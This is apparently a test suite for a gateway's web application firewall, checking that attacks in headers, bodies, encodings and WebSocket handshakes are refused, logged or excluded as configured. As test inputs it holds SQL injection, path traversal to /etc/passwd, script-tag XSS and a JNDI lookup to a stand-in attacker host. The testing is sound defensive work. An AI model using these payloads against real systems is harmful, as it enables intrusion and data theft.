import { connect } from 'node:net'
import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync, zstdCompressSync } from 'node:zlib'
import t from 'tap'
import { sendRaw, until } from '../support/fixtures.ts'
import { startShielded } from '../support/shielded-gateway.ts'

const SQL = "1' UNION SELECT password FROM users-- "
const JSON_TYPE = 'Content-Type: application/json\r\n'
const FORM_TYPE = 'Content-Type: application/x-www-form-urlencoded\r\n'
const ATTACK = JSON.stringify({ id: SQL })

t.test('an attack in any part of the head gets a 403 that tells nothing, and never reaches the backend', async (t) => {
  const stage = await startShielded(t)
  for (const [line, headers] of [
    ['GET /static/..%252f..%252f..%252fetc%252fpasswd', ''],
    [`GET /?id=${encodeURIComponent(SQL)}`, ''],
    ['GET /', `Cookie: theme=dark; id=${encodeURIComponent(SQL)}\r\n`],
    ['GET /', `Referer: https://a.test/?q=<script>alert(1)</script>\r\n`],
    ['GET /', `X-Api-Version: $\{jndi:ldap://evil.example/a}\r\n`],
    [`GET http://a.test/?id=${encodeURIComponent(SQL)}`, ''],
    ['PURGE /?q=%3Cscript%3Ealert(1)%3C/script%3E', ''],
  ] as const)
    t.equal(await stage.ask(line, headers), 403, `${line} ${headers}`)
  const request = `GET /?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\r\nHost: a.test\r\nConnection: close\r\n\r\n`
  const answer = await sendRaw(stage.port, request)
  t.match(answer, /^HTTP\/1\.1 403 /)
  t.notMatch(answer, /script|xss|rule-|tautology/i)
  t.same(stage.seen, [])
  t.match(stage.records.at(-1), {
    cause: 'DRAWBRIDGE_WAF_REQUEST_REFUSED',
    decisions: [{ by: 'waf', what: 'refused', facts: { rule: 'xss-script-tag', part: 'query' } }],
  })
  t.notMatch(JSON.stringify(stage.records.at(-1)?.decisions), 'alert')
})

t.test('the handshake of a WebSocket is judged too', async (t) => {
  const stage = await startShielded(t)
  const upgrade =
    'Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n'
  const head = `GET /ws?t=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\r\nHost: a.test\r\n${upgrade}\r\n`
  t.match(await sendRaw(stage.port, head, /\r\n\r\n/), /^HTTP\/1\.1 403 /)
  t.same(stage.seen, [])
})

t.test('an attack in a body is refused whatever the body is written in', async (t) => {
  const stage = await startShielded(t)
  const form = `id=${encodeURIComponent(SQL)}`
  const multipart = `--x\r\nContent-Disposition: form-data; name="id"\r\n\r\n${SQL}\r\n--x--\r\n`
  for (const [headers, body] of [
    [FORM_TYPE, form],
    [JSON_TYPE, ATTACK],
    ['Content-Type: image/png\r\nContent-Type: application/json\r\n', ATTACK],
    ['Content-Type: application/json; charset=utf-16\r\n', Buffer.from(ATTACK, 'utf16le')],
    ['Content-Type: multipart/form-data; boundary=x\r\n', multipart],
    ['Content-Type: application/xml\r\n', `<r><id>${SQL}</id></r>`],
    ['', form],
    [`${JSON_TYPE}Content-Encoding: gzip\r\n`, gzipSync(ATTACK)],
    [`${JSON_TYPE}Content-Encoding: x-gzip\r\n`, gzipSync(ATTACK)],
    [`${JSON_TYPE}Content-Encoding: deflate\r\n`, deflateSync(ATTACK)],
    [`${JSON_TYPE}Content-Encoding: deflate\r\n`, deflateRawSync(ATTACK)],
    [`${JSON_TYPE}Content-Encoding: br\r\n`, brotliCompressSync(ATTACK)],
    [`${JSON_TYPE}Content-Encoding: zstd\r\n`, zstdCompressSync(ATTACK)],
    [`${JSON_TYPE}Content-Encoding: gzip, br\r\n`, brotliCompressSync(gzipSync(ATTACK))],
    [`${JSON_TYPE}Content-Encoding: identity\r\n`, ATTACK],
  ] as const)
    t.equal(await stage.ask('POST /', headers, body), 403, headers)
  t.same(stage.seen, [])
})

t.test('an innocent body reaches the backend byte for byte', async (t) => {
  const stage = await startShielded(t)
  const text = JSON.stringify({ text: "It's a plain text, isn't it? ".repeat(20_000) })
  const bodies: (readonly [string, Buffer])[] = [
    [JSON_TYPE, Buffer.from('{"a":1}')],
    [JSON_TYPE, Buffer.from(text)],
    [`${JSON_TYPE}Content-Encoding: gzip\r\n`, gzipSync(Buffer.from(text.slice(0, 9000)))],
    ['Content-Type: application/octet-stream\r\n', Buffer.from(ATTACK)],
  ]
  for (const [headers, body] of bodies) t.equal(await stage.ask('POST /', headers, body), 200, headers)
  for (const [index, [, body]] of bodies.entries()) t.ok(stage.seen[index]?.body.equals(body), `body ${index}`)
})

t.test('a body that comes in pieces is judged as a whole, and the attack behind 140 kB is found', async (t) => {
  const stage = await startShielded(t)
  const pieces = [...`id=${encodeURIComponent(SQL)}`].map((sign) => `1\r\n${sign}\r\n`).join('')
  const head = `POST / HTTP/1.1\r\nHost: a.test\r\nConnection: close\r\n${FORM_TYPE}Transfer-Encoding: chunked\r\n\r\n`
  t.match(await sendRaw(stage.port, `${head}${pieces}0\r\n\r\n`), /^HTTP\/1\.1 403 /)
  t.equal(await stage.ask('POST /', FORM_TYPE, `x=${'A'.repeat(140_000)}&id=${encodeURIComponent(SQL)}`), 403)
  t.same(stage.seen, [])
})

t.test('what lies behind max_inspected_body passes uninspected, and 0 looks at no body', async (t) => {
  const some = await startShielded(t, { enabled: true, max_inspected_body: '1kb' })
  t.equal(await some.ask('POST /', FORM_TYPE, `x=${'A'.repeat(2000)}&id=${encodeURIComponent(SQL)}`), 200)
  t.equal(await some.ask('POST /', FORM_TYPE, `x=${'A'.repeat(500)}&id=${encodeURIComponent(SQL)}`), 403)
  const none = await startShielded(t, { enabled: true, max_inspected_body: 0 })
  t.equal(await none.ask('POST /', FORM_TYPE, `id=${encodeURIComponent(SQL)}`), 200)
})

t.test('a body that cannot be read is refused with 415, in log mode only noted', async (t) => {
  const bodies = [
    ['x-unknown', Buffer.from(ATTACK)],
    ['gzip', Buffer.from(ATTACK)],
    ['gzip, gzip, gzip', gzipSync(gzipSync(gzipSync(ATTACK)))],
    ['gzip', gzipSync(Buffer.alloc(300_000, 32))],
  ] as const
  const block = await startShielded(t)
  const log = await startShielded(t, { mode: 'log' })
  for (const [coding, body] of bodies) {
    t.equal(await block.ask('POST /', `${JSON_TYPE}Content-Encoding: ${coding}\r\n`, body), 415, coding)
    t.equal(await log.ask('POST /', `${JSON_TYPE}Content-Encoding: ${coding}\r\n`, body), 200, coding)
  }
  t.match(log.records[0]?.decisions, [{ by: 'waf', what: 'would-refuse', facts: { rule: 'unreadable_body' } }])
  t.equal(log.seen.length, 4)
  t.same(block.seen, [])
})

t.test('in log mode nothing is refused, and the request log says what would have been', async (t) => {
  const stage = await startShielded(t, { max_request_size: 10, max_header_size: 256 })
  t.equal(
    await stage.ask(
      'POST /?q=%3Cscript%3Ealert(1)%3C/script%3E',
      `${FORM_TYPE}X: ${'a'.repeat(300)}\r\n`,
      `id=${encodeURIComponent(SQL)}`,
    ),
    200,
  )
  t.equal(stage.seen.length, 1)
  const noted = stage.records[0]?.decisions?.map(({ what, facts }) => `${what} ${facts?.rule}`) ?? []
  t.match(noted[0], 'would-refuse max_header_size')
  t.match(noted.join(), /would-refuse xss-script-tag/)
  t.match(noted.join(), /would-refuse sqli-/)
})

t.test('of two limits the smaller holds, for chunked bodies too', async (t) => {
  const stage = await startShielded(t, { enabled: true, max_request_size: 1000 })
  t.equal(await stage.ask('POST /', FORM_TYPE, `x=${'a'.repeat(999)}`), 413)
  t.equal(await stage.ask('POST /', FORM_TYPE, `x=${'a'.repeat(998)}`), 200)
  const head = `POST / HTTP/1.1\r\nHost: a.test\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n`
  t.match(await sendRaw(stage.port, `${head}3e9\r\n${'a'.repeat(1001)}\r\n0\r\n\r\n`), /^HTTP\/1\.1 413 /)
  const wide = await startShielded(t, { enabled: true, max_request_size: '1gb', max_header_size: '1mb' })
  t.equal(await wide.ask('POST /', `X: ${'a'.repeat(17_000)}\r\n`), 431, 'limits.max_request_headers')
})

t.test('an exclusion lets through exactly what it names', async (t) => {
  const exclusions = [
    { path: '/posts/*', part: 'body', parameter: 'text', rule: 'sql_injection' },
    { path: '/raw', part: 'body' },
    { host: 'b.test', parameter: 'q' },
  ]
  const stage = await startShielded(t, { enabled: true, exclusions })
  const body = (name: string, value: string) => JSON.stringify({ [name]: value })
  t.equal(await stage.ask('POST /posts/7', JSON_TYPE, body('text', SQL)), 200)
  t.equal(await stage.ask('POST /POSTS//7', JSON_TYPE, body('Text', SQL)), 200, 'whatever the spelling')
  t.equal(await stage.ask('POST /posts/7', JSON_TYPE, body('title', SQL)), 403)
  t.equal(await stage.ask('POST /posts/7', JSON_TYPE, body('text', '<script>alert(1)</script>')), 403)
  t.equal(await stage.ask('POST /other', JSON_TYPE, body('text', SQL)), 403)
  t.equal(await stage.ask('POST /raw', JSON_TYPE, body('anything', SQL)), 200)
  t.equal(await stage.ask(`GET /?q=${encodeURIComponent(SQL)}`), 403, 'the exclusion is of another host')
})

t.test('a rule of the operator’s own refuses at every sensitivity, in its part alone', async (t) => {
  const custom_rules = [
    { id: 'old-plugin', pattern: 'wp-content/plugins/old-\\w+', part: 'path' },
    { id: 'word', pattern: 'forbidden\\s+word' },
  ]
  const stage = await startShielded(t, { enabled: true, sensitivity: 'low', custom_rules })
  t.equal(await stage.ask('GET /wp-content/plugins/OLD-slider/x.php'), 403)
  t.equal(await stage.ask('GET /?page=wp-content/plugins/old-slider'), 200)
  t.equal(await stage.ask('POST /', JSON_TYPE, JSON.stringify({ a: { b: 'a forbidden  word' } })), 403)
  t.match(stage.records.at(-1)?.decisions, [{ facts: { rule: 'word', part: 'body' } }])
  const off = await startShielded(t, { enabled: true, rules: { custom: false }, custom_rules })
  t.equal(await off.ask('GET /wp-content/plugins/old-slider/x.php'), 200)
})

t.test('a client that leaves in the middle of its body leaves nothing behind', async (t) => {
  const stage = await startShielded(t)
  const head = `POST / HTTP/1.1\r\nHost: a.test\r\n${FORM_TYPE}Content-Length: 100\r\n\r\nid=1`
  const socket = connect(stage.port, '127.0.0.1', () => {
    socket.write(head, () => setImmediate(() => socket.destroy()))
  })
  await until(() => stage.records.length === 1)
  t.match(stage.records[0], { isAborted: true, status: 0 })
  t.same(stage.seen, [])
})
